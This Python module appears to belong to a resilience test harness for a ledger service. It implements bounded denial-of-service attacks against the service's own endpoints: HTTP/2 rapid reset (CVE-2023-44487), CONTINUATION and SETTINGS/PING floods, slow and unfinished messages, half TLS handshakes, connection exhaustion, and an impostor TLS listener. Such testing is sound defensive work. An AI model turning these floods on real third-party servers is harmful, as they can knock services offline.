"""The attacks: each takes a place to attack, holds it for as long as it is told to, and lets go.

An attack is bounded in connections, bytes and time, and ends by itself. `needs` says what the attacker must have: nothing, or
a certificate that the ledger takes. An attack that the other end cuts off has been answered well: it goes on with a new
connection, as an adversary would.
"""

import dataclasses
import os
import select
import socket
import ssl
import struct
import time

from . import wire
from .wire import Attacker

LEDGER = "/coppice.v1.Ledger/"


@dataclasses.dataclass
class Attack:
    """What one attack is called, what it does, and where it goes."""

    name: str
    about: str
    run: object
    # Which address it goes to: the ledger's API, a node, or the root log by HTTP.
    place: str = "ledger"
    # Whether the attacker shows a certificate.
    certificate: bool = True
    # The kind of process that is killed before, and started again after: the attacker takes its address.
    instead_of: str = ""


def hold(seconds, step=None, pause=0.05):
    """Lets the time pass, doing `step` again and again."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if step:
            step()
        time.sleep(pause)


def opened(count, connect):
    """As many connections as the other end takes, up to `count`."""
    held = []
    for _ in range(count):
        try:
            held.append(connect())
        except OSError:
            # It refuses more, which is its right.
            if len(held) > 8:
                break
    return held


def let_go(held):
    for one in held:
        one.close()


def unread_ranges(target, seconds):
    """Ranges over everything, of which nothing is read: by the windows of HTTP/2, and with huge windows by those of TCP."""
    held = []
    for window in (65_535, wire.WINDOW_MAX):
        attacker = Attacker(target, window=window)
        for _ in range(32):
            attacker.open(LEDGER + "Range", wire.message(b""))
        held.append(attacker)
    hold(seconds)
    let_go(held)


def unread_batch_gets(target, seconds):
    """Answers of some 12 MiB each, of which nothing is read."""
    keys = wire.message(b"".join(wire.field(1, f"big-{number:02}".encode()) for number in range(11)))
    held = []
    for _ in range(4):
        attacker = Attacker(target)
        for _ in range(15):
            attacker.open(LEDGER + "BatchGet", keys)
        held.append(attacker)
    hold(seconds)
    let_go(held)


def partial_messages(target, seconds):
    """Messages as large as any, without their last byte."""
    part = bytes((12 << 20) - 1)
    held, end = [], time.monotonic() + seconds
    for _ in range(4):
        attacker = Attacker(target)
        attacker.read_some()
        for _ in range(15):
            if time.monotonic() > end:
                break
            stream = attacker.open(LEDGER + "Commit", wire.message_start(len(part) + 1), end=False)
            try:
                attacker.data(stream, part, limit=2)
            except OSError:
                break
        held.append(attacker)
    hold(end - time.monotonic())
    let_go(held)


def slow_messages(target, seconds):
    """Requests that come a byte at a time."""
    attackers = opened(8, lambda: Attacker(target))
    streams = [(one, one.open(LEDGER + "Commit", wire.message_start(1 << 20), end=False)) for one in attackers for _ in range(16)]

    def drip():
        for attacker, stream in streams:
            try:
                attacker.send(wire.frame(wire.DATA, 0, stream, b"x"))
            except OSError:
                pass

    hold(seconds, drip, 0.5)
    let_go(attackers)


def silent(target, seconds):
    """Connections that never say a byte."""
    held = opened(300, target.socket)
    hold(seconds)
    let_go(held)


def no_preface(target, seconds):
    """Connections that say nothing after the handshake."""
    held = opened(200, target.connect)
    hold(seconds)
    let_go(held)


def idle(target, seconds):
    """Connections that are opened as HTTP/2 and never call."""
    held = opened(200, lambda: Attacker(target))
    hold(seconds)
    let_go(held)


def flood(target, seconds, step):
    """Sends what `step` gives for an attacker as fast as the other end takes it; comes again when it is cut off."""
    end, attacker = time.monotonic() + seconds, None
    while time.monotonic() < end:
        try:
            if attacker is None:
                attacker = Attacker(target)
            attacker.socket.settimeout(1)
            attacker.send(step(attacker))
        except OSError:
            if attacker:
                attacker.close()
            attacker = None
            time.sleep(0.05)
    if attacker:
        attacker.close()


def rapid_reset(target, seconds):
    """Calls that are taken back at once (CVE-2023-44487)."""

    def step(attacker):
        out = bytearray()
        block = attacker.headers(LEDGER + "Range")
        for _ in range(100):
            stream, attacker.next_stream = attacker.next_stream, attacker.next_stream + 2
            out += wire.frame(wire.HEADERS, wire.END_HEADERS, stream, block)
            out += wire.frame(wire.DATA, wire.END_STREAM, stream, wire.message(b""))
            out += wire.frame(wire.RST_STREAM, 0, stream, struct.pack(">I", 8))
        return bytes(out)

    flood(target, seconds, step)


def continuation_flood(target, seconds):
    """A header block without an end."""
    filler = wire.header("x-filler", "a" * 120) * 100

    def step(attacker):
        if attacker.next_stream == 1:
            attacker.next_stream = 3
            return wire.frame(wire.HEADERS, 0, 1, attacker.headers(LEDGER + "Get"))
        return wire.frame(wire.CONTINUATION, 0, 1, filler) * 8

    flood(target, seconds, step)


def settings_flood(target, seconds):
    """Settings and pings that want answers, which are never read."""
    settings = wire.frame(wire.SETTINGS, 0, 0, struct.pack(">HI", wire.INITIAL_WINDOW_SIZE, 65_535))
    flood(target, seconds, lambda _: (settings + wire.frame(wire.PING, 0, 0, os.urandom(8))) * 200)


def anonymous_log_readers(target, seconds):
    """Connections to the root log's HTTP port that send half a request."""
    def connect():
        connection = target.socket()
        connection.sendall(b"GET /checkpoint HTTP/1.1\r\nHost: log\r\n")
        return connection

    held = opened(1200, connect)
    hold(seconds)
    let_go(held)


def half_handshakes(target, seconds):
    """TLS handshakes that stop after their first record's head."""
    def connect():
        connection = target.socket()
        connection.sendall(b"\x16\x03\x01\x02\x00\x01")
        return connection

    held = opened(300, connect)
    hold(seconds)
    let_go(held)


def impostor(target, seconds):
    """Listens in the place of a process, and shows a writer's certificate to whoever comes. Nobody may say a word to it, and some must come."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(target.certificate, target.key)
    context.set_alpn_protocols(["h2"])
    came, heard, end = 0, 0, time.monotonic() + seconds
    with socket.create_server((target.host, target.port)) as listener:
        while (left := end - time.monotonic()) > 0:
            if not select.select([listener], [], [], left)[0]:
                continue
            connection, _ = listener.accept()
            came += 1
            connection.settimeout(2)
            try:
                with context.wrap_socket(connection, server_side=True) as secured:
                    heard += len(secured.recv(1))
            except OSError:
                # It saw the certificate, and left.
                connection.close()
    if heard or not came:
        raise AssertionError(f"{came} came, and {heard} said something")


ALL = [
    Attack("unread ranges", "64 ranges on two connections, never read", unread_ranges),
    Attack("unread answers", "60 BatchGets of 11 MiB each, never read", unread_batch_gets),
    Attack("unfinished messages", "60 messages of 12 MiB without their last byte", partial_messages),
    Attack("slow messages", "128 requests, two bytes a second each", slow_messages),
    Attack("silent connections", "300 connections without a byte", silent, certificate=False),
    Attack("half handshakes", "300 handshakes that stop", half_handshakes, certificate=False),
    Attack("no preface", "200 connections without HTTP/2", no_preface),
    Attack("idle connections", "200 connections without a call", idle),
    Attack("rapid reset", "calls taken back at once, without end", rapid_reset),
    Attack("endless headers", "CONTINUATION frames without end", continuation_flood),
    Attack("settings and pings", "frames that want answers, without end", settings_flood),
    Attack("log readers", "1,200 half requests for the root log", anonymous_log_readers, place="log", certificate=False),
    Attack("silence at a node", "300 connections without a byte, at each node's port", silent, place="node", certificate=False),
    Attack("impostor of a node", "listens where a node was, with a writer's certificate", impostor, instead_of="node"),
    Attack("impostor of a coordinator", "the same where a coordinator was, which clients know", impostor, instead_of="coordinator"),
]
